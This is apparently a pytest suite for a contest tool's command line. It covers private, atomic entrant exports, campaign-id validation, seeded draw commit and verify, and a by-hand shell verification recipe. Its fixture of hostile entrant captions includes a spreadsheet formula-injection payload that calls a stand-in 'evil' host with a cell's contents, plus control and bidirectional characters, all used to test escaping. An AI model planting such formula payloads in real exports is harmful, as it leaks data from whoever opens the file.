"""The contest commands as an organiser runs them: files that are private and never half
written, bad ids and bad asks refused in one line, the first list format still verifying,
and the contests page's hand check working on both formats."""

from __future__ import annotations

import hashlib
import html
import json
import os
import re
import resource
import shutil
import signal
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from pymongo.asynchronous.database import AsyncDatabase

from listener.contests.commands import draw_run, draw_verify
from listener.contests.export import ENTRANTS_CSV, read_entrants
from listener.enrich.draw import LEGACY_ENTRANTS_FORMAT, DrawRecord, rank
from listener.metrics import Metrics
from listener.store.mongo import Document
from listener.store.store import Store
from testbed import free_port
from tests.contests import legacy
from tests.contests.campaign import HASHTAG, TAGS, ingest, media, settings_for

TIMEOUT_S = 60
CONTESTS_PAGE = Path(__file__).parents[2] / "docs" / "contests.md"
HOSTILE = [
    (
        media(
            "11",
            minutes=1,
            caption='=HYPERLINK("http://evil/?"&A1,"win") #summerdrop @ana',
            username="zoe",
        ),
        TAGS,
    ),
    (media("12", minutes=2, caption='a, "b"\r\nc\u2028 #summerdrop @bo', username="-yan"), TAGS),
    (media("13", minutes=3, caption="\u202eevil\u202c 🎉 #summerdrop @cy"), HASHTAG),
    (media("14", minutes=4, caption="@dee\t\0 #summerdrop", username="'wu"), TAGS),
]
"""Four entrants with hostile captions and usernames; one author unknown."""


def config_text(mongo_uri: str, database: str, campaign_id: str = "summer", **extra: str) -> str:
    """A TOML config for the CLI: the test's database and campaign ``summer``'s rules."""
    lines = [
        "[store]",
        f'mongodb_uri = "{mongo_uri}"',
        f'database = "{database}"',
        *(f"{key} = {value}" for key, value in extra.items()),
        "[[accounts]]",
        'name = "brand"',
        'ig_user_id = "1"',
        'username = "brand"',
        "[[campaigns]]",
        f'id = "{campaign_id}"',
        'account = "brand"',
        'hashtags = ["summerdrop"]',
        "starts_at = 2026-06-01T00:00:00Z",
        "ends_at = 2026-07-01T00:00:00Z",
        "min_mentions = 1",
        'exclude_usernames = ["brand"]',
    ]
    return "\n".join(lines) + "\n"


def listener(
    *args: str, cwd: Path, preexec_fn: Callable[[], None] | None = None
) -> subprocess.CompletedProcess[str]:
    """``python -m listener ARGS`` in ``cwd``."""
    return subprocess.run(
        [sys.executable, "-m", "listener", *args],
        capture_output=True,
        text=True,
        timeout=TIMEOUT_S,
        cwd=cwd,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
        preexec_fn=preexec_fn,
        check=False,
    )


@pytest.fixture
async def config(
    mongo_uri: str, database: AsyncDatabase[Document], metrics: Metrics, tmp_path: Path
) -> Path:
    """A config whose campaign ``summer`` has the four HOSTILE entrants stored."""
    await ingest(settings_for(mongo_uri, database), database, metrics, HOSTILE)
    path = tmp_path / "listener.toml"
    path.write_text(config_text(mongo_uri, database.name), encoding="utf-8")
    return path


def export_over(
    config: Path,
    output: Path,
    old: bytes,
    campaign: str = "summer",
    preexec_fn: Callable[[], None] | None = None,
) -> subprocess.CompletedProcess[str]:
    """``listener export entrants --output OUTPUT`` where OUTPUT already holds ``old``."""
    output.write_bytes(old)
    return listener(
        "export", "entrants", "--config", str(config), "--campaign", campaign,
        "--output", str(output), cwd=output.parent, preexec_fn=preexec_fn,
    )  # fmt: skip


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def leftovers(folder: Path) -> list[str]:
    """Temporary files a command left in ``folder``."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


async def test_export_replaces_the_output_whole_and_private(config: Path, tmp_path: Path) -> None:
    """A finished export replaces --output in one rename, with mode 0600, and says who is known."""
    output = tmp_path / "entrants.csv"
    output.touch(mode=0o644)
    result = export_over(config, output, b"the old list\n")
    assert result.returncode == 0, result.stderr
    assert [e.entry_id for e in read_entrants(output.read_bytes())] == ["11", "12", "13", "14"]
    assert mode(output) == 0o600
    assert "4 entrants; author known for 3 (75.0%), unknown for 1" in result.stderr
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
async def test_export_to_stdout_states_the_known_authors_on_stderr(
    config: Path, tmp_path: Path, fmt: str
) -> None:
    """Without --output the list goes to stdout and the identity line to stderr only."""
    result = listener(
        "export", "entrants", "--config", str(config), "--campaign", "summer", "--format", fmt,
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "author known for 3" in result.stderr
    assert "author known" not in result.stdout
    assert '"media_id":"13"' in result.stdout


async def test_unknown_campaign_leaves_the_output_untouched(config: Path, tmp_path: Path) -> None:
    """An export of a campaign not configured fails before touching --output (exit 2)."""
    output = tmp_path / "entrants.csv"
    result = export_over(config, output, b"the old list\n", campaign="nope")
    assert result.returncode == 2
    assert "unknown campaign 'nope'" in result.stderr
    assert output.read_bytes() == b"the old list\n"
    assert leftovers(tmp_path) == []


def test_database_down_leaves_the_output_untouched(tmp_path: Path) -> None:
    """With MongoDB unreachable the export fails in one line (exit 1); --output is as it was."""
    config = tmp_path / "listener.toml"
    config.write_text(
        config_text(
            f"mongodb://127.0.0.1:{free_port()}/?directConnection=true", "x", timeout_s="0.5"
        ),
        encoding="utf-8",
    )
    output = tmp_path / "entrants.csv"
    result = export_over(config, output, b"the old list\n")
    assert result.returncode == 1
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.stderr
    assert output.read_bytes() == b"the old list\n"
    assert leftovers(tmp_path) == []


def small_files_only() -> None:
    """In the child: files may not grow past 300 bytes, as on a disk that is full."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a failed write, not a killed process
    resource.setrlimit(resource.RLIMIT_FSIZE, (300, 300))


async def test_a_refused_write_leaves_the_output_untouched(config: Path, tmp_path: Path) -> None:
    """When the file system refuses the export's bytes, --output keeps its old bytes."""
    output = tmp_path / "entrants.csv"
    old = b"the old list\n" * 100  # bigger than the limit: it is kept, never rewritten
    result = export_over(config, output, old, preexec_fn=small_files_only)
    assert result.returncode == 1
    assert "File too large" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert output.read_bytes() == old
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("bad", ["summer.2026", "a.b", "", "x" * 65, "has space", "$where", "été"])
def test_a_campaign_id_that_is_no_field_name_is_refused(tmp_path: Path, bad: str) -> None:
    """Ids outside ^[A-Za-z0-9_-]{1,64}$ stop any command at config load: one line, exit 2."""
    config = tmp_path / "listener.toml"
    config.write_text(config_text("embedded", "x", campaign_id=bad), encoding="utf-8")
    result = listener("contests", "reevaluate", "--config", str(config), cwd=tmp_path)
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1
    assert "campaigns.0.id" in result.stderr
    assert "1 to 64 letters, digits, '_' or '-'" in result.stderr


async def test_reevaluate_says_which_campaigns_it_judged_in_full(
    config: Path, tmp_path: Path
) -> None:
    """The first settling of a campaign and --full are full passes; a later pass is not."""
    command = ("contests", "reevaluate", "--config", str(config))
    first = listener(*command, cwd=tmp_path)
    assert first.stdout == "summer: 8 media judged (in full), 0 verdicts changed, 4 eligible\n"
    again = listener(*command, cwd=tmp_path)
    assert again.stdout == "summer: 0 media judged, 0 verdicts changed, 4 eligible\n"
    full = listener(*command, "--full", cwd=tmp_path)
    assert full.stdout == "summer: 4 media judged (in full), 0 verdicts changed, 4 eligible\n"


SEED = "a seed, with 'quotes' and spaces"
SEED_HASH = hashlib.sha256(SEED.encode()).hexdigest()


def commit(config: Path, folder: Path) -> subprocess.CompletedProcess[str]:
    """``listener draw commit`` of campaign ``summer`` with SEED_HASH, in ``folder``."""
    return listener(
        "draw", "commit", "--config", str(config), "--campaign", "summer",
        "--seed-hash", SEED_HASH, cwd=folder,
    )  # fmt: skip


def commit_and_draw(config: Path, folder: Path, winners: int, alternates: int) -> DrawRecord:
    """``listener draw commit`` then ``listener draw``; the record written."""
    done = commit(config, folder)
    assert done.returncode == 0, done.stderr
    drawn = listener(
        "draw", "--config", str(config), "--campaign", "summer", "--winners", str(winners),
        "--alternates", str(alternates), "--seed", SEED, cwd=folder,
    )  # fmt: skip
    assert drawn.returncode == 0, drawn.stderr
    return DrawRecord.from_json((folder / "summer-draw.json").read_text(encoding="utf-8"))


async def test_draw_files_are_private_and_the_certificate_sits_beside_the_record(
    config: Path, tmp_path: Path
) -> None:
    """The list, the record and summer-draw.html are 0600; the record marks unknown authors."""
    record = commit_and_draw(config, tmp_path, winners=2, alternates=2)
    for name in ("summer-entrants.csv", "summer-draw.json", "summer-draw.html"):
        assert mode(tmp_path / name) == 0o600, name
    assert record.entrants_format == ENTRANTS_CSV
    assert {e.entry_id: e.verify_author for e in record.drawn} == {
        i: i == "13" for i in ("11", "12", "13", "14")
    }
    page = (tmp_path / "summer-draw.html").read_text(encoding="utf-8")
    assert record.entrants_digest in page
    verified = listener(
        "draw", "verify", "summer-draw.json", "--entrants", "summer-entrants.csv",
        "--html", "again.html", cwd=tmp_path,
    )  # fmt: skip
    assert verified.returncode == 0, verified.stdout
    assert (tmp_path / "again.html").read_text(encoding="utf-8") == page


async def test_more_winners_than_entrants_is_refused(config: Path, tmp_path: Path) -> None:
    """Asking for 5 winners of 4 entrants: a clear line, exit 1, and no record or certificate."""
    done = commit(config, tmp_path)
    assert done.returncode == 0, done.stderr
    result = listener(
        "draw", "--config", str(config), "--campaign", "summer", "--winners", "5",
        "--seed", SEED, cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.strip() == (
        "listener: draw refused: 5 winners asked for but there are only 4 entrants"
    )
    assert not (tmp_path / "summer-draw.json").exists()
    assert not (tmp_path / "summer-draw.html").exists()


async def test_a_campaign_without_entrants_cannot_be_committed(
    mongo_uri: str, database: AsyncDatabase[Document], metrics: Metrics, tmp_path: Path
) -> None:
    """Every entry ineligible: the export says 0 entrants; the commit refuses, writing nothing."""
    settings = settings_for(mongo_uri, database)
    await ingest(settings, database, metrics, [(media("1", minutes=1, caption="no tag"), TAGS)])
    config = tmp_path / "listener.toml"
    config.write_text(config_text(mongo_uri, database.name), encoding="utf-8")
    exported = listener(
        "export", "entrants", "--config", str(config), "--campaign", "summer", cwd=tmp_path
    )
    assert exported.returncode == 0
    assert "listener: 0 entrants; author known for 0" in exported.stderr
    result = commit(config, tmp_path)
    assert result.returncode == 1
    assert result.stderr.strip() == "listener: cannot commit: there are no entrants to draw from"
    assert not (tmp_path / "summer-entrants.csv").exists()


def test_a_draw_made_with_the_first_list_format_still_verifies(tmp_path: Path) -> None:
    """The kept first-format record and list verify, and give a certificate saying so."""
    result = listener(
        "draw", "verify", str(legacy.RECORD), "--entrants", str(legacy.ENTRANTS),
        "--html", "old.html", cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout
    assert "verified: the draw reproduces" in result.stdout
    page = (tmp_path / "old.html").read_text(encoding="utf-8")
    assert LEGACY_ENTRANTS_FORMAT in page
    assert "The rules were not recorded with this draw" in page


def test_a_first_format_list_changed_by_one_byte_fails(tmp_path: Path) -> None:
    """The first format is checked as strictly as ever: one byte changed, not verified."""
    changed = tmp_path / "entrants.csv"
    changed.write_bytes(legacy.ENTRANTS.read_bytes().replace(b"@ana", b"@anna"))
    result = listener(
        "draw", "verify", str(legacy.RECORD), "--entrants", str(changed), "--html", "x.html",
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 1
    assert "entrant list digest mismatch" in result.stdout
    assert "no certificate written" in result.stdout
    assert not (tmp_path / "x.html").exists()


async def test_a_first_format_commitment_is_drawn_with_the_first_format(
    mongo_uri: str, database: AsyncDatabase[Document], metrics: Metrics, tmp_path: Path
) -> None:
    """Committed before the upgrade, drawn after: the same list bytes, the same winners."""
    settings = settings_for(mongo_uri, database)
    await ingest(settings, database, metrics, [(m, TAGS) for m in legacy.MEDIA])
    old = DrawRecord.from_json(legacy.RECORD.read_text(encoding="utf-8"))
    await Store(database).draws.save_commitment(
        "summer",
        {  # what the first format's `listener draw commit` stored
            "rules_version": old.rules_version,
            "entrants_digest": old.entrants_digest,
            "entrant_count": old.entrant_count,
            "seed_commitment": old.seed_commitment,
            "committed_at": old.committed_at,
        },
    )
    record_file = tmp_path / "summer-draw.json"
    record = await draw_run(
        settings, "summer", seed=legacy.SEED, winners=2, alternates=2, record_file=record_file,
        clock=lambda: legacy.DRAWN_AT,
    )  # fmt: skip
    assert (record.winners, record.alternates) == (old.winners, old.alternates)
    assert record.entrants_format == LEGACY_ENTRANTS_FORMAT
    assert [e.entry_id for e in record.drawn] == [*old.winners, *old.alternates]
    assert draw_verify(record_file, legacy.ENTRANTS) == []


def hand_check_recipe() -> str:
    """The contests page's by-hand check, as a bash script reading $SEED and ID-entrants.csv."""
    text = CONTESTS_PAGE.read_text(encoding="utf-8")
    match = re.search(r"```sh\n(SEED='the revealed seed'\n.*?)```", text, re.DOTALL)
    assert match is not None, "the contests page's verification recipe is gone"
    return match.group(1).replace("SEED='the revealed seed'\n", "")


def run_recipe(script: str, folder: Path, seed: str) -> list[str]:
    """Run a hand-check recipe with bash in ``folder``; its output lines."""
    result = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script],
        cwd=folder,
        env={"SEED": seed, "PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8"},
        capture_output=True,
        timeout=TIMEOUT_S,
        check=False,
    )
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode().splitlines()


def check_recipe_output(lines: list[str], record: DrawRecord, ids: list[str]) -> None:
    """The recipe printed the list's digest, the seed hash and the ranking the record drew."""
    digest, commitment, *ranking = lines
    assert digest.split()[0] == record.entrants_digest
    assert commitment.split()[0] == record.seed_commitment
    ranked = [line.split(" ", 1)[1] for line in ranking]
    assert ranked == rank(record.seed, ids)
    drawn = len(record.winners) + len(record.alternates)
    assert tuple(ranked[:drawn]) == (*record.winners, *record.alternates)


needs_openssl = pytest.mark.skipif(
    shutil.which("openssl") is None or shutil.which("bash") is None,
    reason="openssl or bash is not installed",
)


@needs_openssl
@pytest.mark.parametrize("which", ["first format", "current format"])
async def test_the_hand_check_recipe_checks_a_draw_by_hand(
    config: Path, tmp_path: Path, which: str
) -> None:
    """The contests page's shell recipe reproduces the digest, the seed hash and the winners."""
    if which == "first format":
        record = DrawRecord.from_json(legacy.RECORD.read_text(encoding="utf-8"))
        data = legacy.ENTRANTS.read_bytes()
    else:
        record = commit_and_draw(config, tmp_path, winners=2, alternates=1)
        data = (tmp_path / "summer-entrants.csv").read_bytes()
    folder = tmp_path / "by-hand"
    folder.mkdir()
    (folder / "ID-entrants.csv").write_bytes(data)
    lines = run_recipe(hand_check_recipe(), folder, record.seed)
    check_recipe_output(
        lines, record, [e.entry_id for e in read_entrants(data, record.entrants_format)]
    )


@needs_openssl
async def test_the_certificates_recipe_checks_its_draw_by_hand(
    config: Path, tmp_path: Path
) -> None:
    """The recipe printed on the certificate, seed and file name filled in, works as printed."""
    record = commit_and_draw(config, tmp_path, winners=2, alternates=2)
    page = (tmp_path / "summer-draw.html").read_text(encoding="utf-8")
    match = re.search(r"<pre>(.*?)</pre>", page, re.DOTALL)
    assert match is not None
    lines = run_recipe(html.unescape(match.group(1)), tmp_path, "not this one: the page sets it")
    data = (tmp_path / "summer-entrants.csv").read_bytes()
    check_recipe_output(lines, record, [e.entry_id for e in read_entrants(data)])
    assert json.loads((tmp_path / "summer-draw.json").read_text())["seed"] == SEED
